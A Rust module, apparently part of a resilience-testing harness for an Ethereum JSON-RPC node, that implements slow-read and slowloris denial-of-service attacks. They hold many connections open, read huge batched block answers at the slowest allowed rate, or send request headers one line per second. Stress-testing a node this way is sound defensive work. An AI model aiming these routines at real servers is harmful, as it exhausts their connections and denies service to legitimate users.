//! Clients that take every connection there is and hurry with none.

use std::{
    io::{ErrorKind, Read, Write},
    net::TcpStream,
    thread,
    time::{Duration, Instant},
};

use serde_json::{Value, json};

use super::Target;
use crate::{failure::Outcome, rpc::Client};

/// Bytes that a reader takes a second, just above the least that is allowed.
const READ_BYTES: usize = 20 << 10;
/// A reader takes some, and a head grows by a line, as often.
const STEP: Duration = Duration::from_secs(1);

/// Asks for the largest answer on every connection, and reads it as slowly as is allowed.
pub(super) fn readers(target: &Target) -> Outcome<String> {
    let client = Client::new(format!("http://{}", target.rpc));
    let block = client.call("eth_getBlockByNumber", &json!(["latest", true]))?;
    let length = block.to_string().len() + 60;
    let calls = (target.size.answer_bytes / length).min(1_000);
    let call = json!({"jsonrpc": "2.0", "id": 1, "method": "eth_getBlockByNumber", "params": [block.get("number"), true]});
    let body = Value::Array(vec![call; calls]).to_string();
    let request = format!(
        "POST / HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    );
    let mut buffer = vec![0; READ_BYTES];
    let taken = hold(target, request.as_bytes(), |stream| match stream.read(&mut buffer) {
        Ok(0) => Err(ErrorKind::UnexpectedEof.into()),
        Ok(length) => Ok(length),
        Err(error) => Err(error),
    });
    Ok(format!("answers of {} bytes; {taken}", calls * length))
}

/// Sends the head of a request line by line.
pub(super) fn heads(target: &Target) -> Outcome<String> {
    Ok(hold(target, b"POST / HTTP/1.1\r\nhost: localhost\r\n", |stream| stream.write(b"x: y\r\n")))
}

/// Keeps as many connections as there may be, each of which said `first`, and takes a step on each every second.
fn hold(
    target: &Target,
    first: &[u8],
    mut step: impl FnMut(&mut TcpStream) -> std::io::Result<usize>,
) -> String {
    let (mut held, mut opened, mut steps) = (Vec::new(), 0_usize, 0_usize);
    while !target.over.raised() {
        let begun = Instant::now();
        while held.len() < target.size.connections && !target.over.raised() && begun.elapsed() < STEP {
            let Ok(mut stream) = TcpStream::connect(&target.rpc) else { break };
            opened += 1;
            if stream.write_all(first).is_ok() && stream.set_nonblocking(true).is_ok() {
                held.push(stream);
            }
        }
        held.retain_mut(|stream| match step(stream) {
            Ok(_) => {
                steps += 1;
                true
            }
            Err(error) => error.kind() == ErrorKind::WouldBlock,
        });
        thread::sleep(STEP.saturating_sub(begun.elapsed()));
    }
    format!("{opened} connections opened, {} held in the end, {steps} steps", held.len())
}
